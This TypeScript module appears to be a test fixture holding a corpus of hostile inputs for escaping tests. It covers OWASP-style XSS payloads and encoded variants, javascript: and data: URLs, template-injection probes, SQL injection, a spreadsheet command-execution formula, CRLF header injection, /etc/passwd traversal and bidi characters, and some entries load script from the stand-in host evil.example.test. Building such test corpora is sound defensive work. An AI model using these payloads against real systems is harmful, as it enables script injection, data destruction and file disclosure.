/**
 * Texts that become something else where they are not treated as text: one or more of every kind that the OWASP cheat
 * sheets name (XSS filter evasion, XSS prevention, DOM based XSS), and of what else a text passes on its way here. What
 * of it would run calls `xss()`, `alert()` or asks for something at evil.example.test.
 */
const MARKUP = [
  "<script>xss('script')</script>",
  "<SCRIPT SRC=//evil.example.test/x.js></SCRIPT>",
  "<scr<script>ipt>xss()</scr</script>ipt>",
  "<<SCRIPT>xss();//\\<</SCRIPT>",
  "<script/xss src='https://evil.example.test/x.js'></script>",
  "</script><script>xss('closed')</script>",
  `<img src=x onerror="xss('image')">`,
  "<IMG SRC=`javascript:xss()`>",
  `<IMG """><SCRIPT>xss()</SCRIPT>">`,
  "<img/src/onerror=xss()>",
  "<img src=x:x onerror\u00a0=xss() lowsrc=javascript:xss()>",
  "<body onload=xss()>",
  "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=xss()>",
  `"><svg onload=xss()>`,
  "<svg><script href='data:text/javascript,xss()'/></svg>",
  "<svg><a xlink:href='javascript:xss()'><text y=20>x</text></a><animate attributeName=href values=javascript:xss() /></svg>",
  "<math><mi xlink:href='javascript:xss()'>x</mi><mtext><style><img src onerror=xss()></style></mtext></math>",
  "</textarea></title></style></noscript></template><iframe srcdoc='<script>parent.xss()</script>'></iframe>",
  "<iframe src=javascript:xss()></iframe><frameset><frame src=javascript:xss()></frameset>",
  "<object data='javascript:xss()'></object><embed src=//evil.example.test/x.swf>",
  "<details open ontoggle=xss()><summary>x</summary></details>",
  "<input autofocus onfocus=xss()><select autofocus onfocus=xss()>",
  "<video><source onerror=xss()></video><audio src onerror=xss()>",
  "<marquee onstart=xss()>x</marquee>",
  "<form action=javascript:xss()><button formaction=javascript:xss()>x</button></form>",
  "<base href=//evil.example.test/><link rel=stylesheet href=//evil.example.test/x.css>",
  `<meta http-equiv=refresh content="0;url=javascript:xss()">`,
  "<!--><img src=x onerror=xss()>-->",
  "<![CDATA[<script>xss()</script>]]>",
  "<style>@import'//evil.example.test/x.css';body{background:url(javascript:xss())}</style>",
  `" onmouseover="xss()" style="position:fixed;inset:0;width:expression(xss())`,
  "' autofocus onfocus='xss()",
  "`onmouseover=`xss()",
];

const ENCODED = [
  "&lt;script&gt;xss()&lt;/script&gt;",
  "&#60;img src=x onerror=xss()&#62;",
  "&#x3c;script&#x3e;xss()&#x3c;/script&#x3e;",
  "%3Cscript%3Exss()%3C/script%3E",
  "\\u003cscript\\u003exss()\\u003c/script\\u003e",
  "\\x3Csvg onload=xss()\\x3E",
  "+ADw-script+AD4-xss()+ADw-/script+AD4-",
  "＜script＞xss()＜/script＞",
  "<scr\u0000ipt>xss()</scr\u0000ipt>",
  "<img src=x\u000conerror=xss()>",
  "<a href=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;xss()>x</a>",
];

/** Addresses that run, or lead elsewhere than they say. Alone, for where an address is expected. */
export const XSS_ADDRESSES: readonly string[] = [
  "javascript:xss()",
  "JaVaScRiPt:xss()",
  " \u0001javascript:xss()",
  "java\tscript:xss()",
  "java\nscript:xss()",
  "javascript\u0000:xss()",
  "javascript&colon;xss()",
  "&#x6A;avascript:xss()",
  "javascript://example.com/%0axss()",
  "data:text/html,<script>parent.xss()</script>",
  "data:text/html;base64,PHNjcmlwdD5wYXJlbnQueHNzKCk8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='xss()'/>",
  "vbscript:msgbox(1)",
  "feed:javascript:xss()",
  "view-source:javascript:xss()",
  "blob:https://evil.example.test/1",
  "//evil.example.test/x",
  "\\\\evil.example.test\\x",
  "/\\evil.example.test",
  "https:evil.example.test",
  "file:///etc/passwd",
  "https://desk@evil.example.test/\u202egnp.x",
];

const TEMPLATES = [
  "{{7*7}} $" + "{7*7} <%= 7*7 %> #{7*7} *{7*7} @(7*7) [[7*7]]",
  "{{constructor.constructor('xss()')()}}",
  "$" + "{xss()} `$" + "{xss()}`",
  "{{#with 'x' as |y|}}{{lookup y 'constructor'}}{{/with}}",
  "{name, select, other {<script>xss()</script>}} {count, plural, =0 {#} other {'{}'}}",
  "<b>{name}</b> {0} '{' <link>x</link> {",
  "%s %n %x %d $1 $& $` $'",
  "__proto__ constructor toString hasOwnProperty",
  "[x](javascript:xss()) ![x](https://evil.example.test/x.png) <https://evil.example.test>",
  "[x]: javascript:xss() 'y'\n```html\n<script>xss()</script>\n```",
];

const ELSEWHERE = [
  "'; DROP TABLE messages;-- \" OR 1=1 /*",
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("https://evil.example.test","x")`,
  "+1+1 -1 @SUM(1) \tx",
  "＝1+1",
  "x\r\nSet-Cookie: xss=1\r\n\r\n<script>xss()</script>",
  '\u001b[31mred\u001b[0m\n{"level":60,"msg":"forged"}',
  "../../../../etc/passwd\u0000.png",
  "\u202eevil\u202c \u2066x\u2069 \u200bzero\u200dwidth\ufeff \u061c",
  "Z\u0351\u036b\u0343a\u0489\u0316l\u0323g\u0332o \ud83d\ude00",
  "\u2028xss()\u2029",
  `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=xss() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=xss()//>\\x3e`,
  `'">><marquee><img src=x onerror=xss()></marquee>"></plaintext\\></|\\><plaintext/onmouseover=xss()><script>xss()</script>@gmail.com<isindex formaction=javascript:xss() type=submit>'-->"></script><script>xss()</script>`,
  `';xss(String.fromCharCode(88))//";xss()//--></SCRIPT>">'><SCRIPT>xss()</SCRIPT>`,
];

export const XSS_CORPUS: readonly string[] = [...MARKUP, ...ENCODED, ...XSS_ADDRESSES, ...TEMPLATES, ...ELSEWHERE];
/** All of it as one text, for what there is only one of. */
export const EVERYTHING = XSS_CORPUS.join(" | ");
/** Of the Page that all of it happens on; so short that it hides nothing else. */
export const HOSTILE_PAGE = "Harbor <img src=x onerror=xss()> {name} {{7*7}}";
